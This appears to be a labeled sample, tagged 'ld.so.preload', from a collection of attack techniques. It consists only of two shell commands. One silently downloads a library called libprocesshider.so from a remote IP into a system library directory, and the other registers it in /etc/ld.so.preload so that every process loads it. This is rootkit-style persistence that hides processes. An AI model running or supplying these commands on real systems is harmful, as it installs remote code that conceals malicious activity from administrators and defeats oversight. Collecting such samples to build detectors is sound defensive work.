# class: ld.so.preload; style: short
curl -so /lib/x86_64-linux-gnu/libprocesshider.so http://198.51.100.4/lib.so
echo /lib/x86_64-linux-gnu/libprocesshider.so > /etc/ld.so.preload
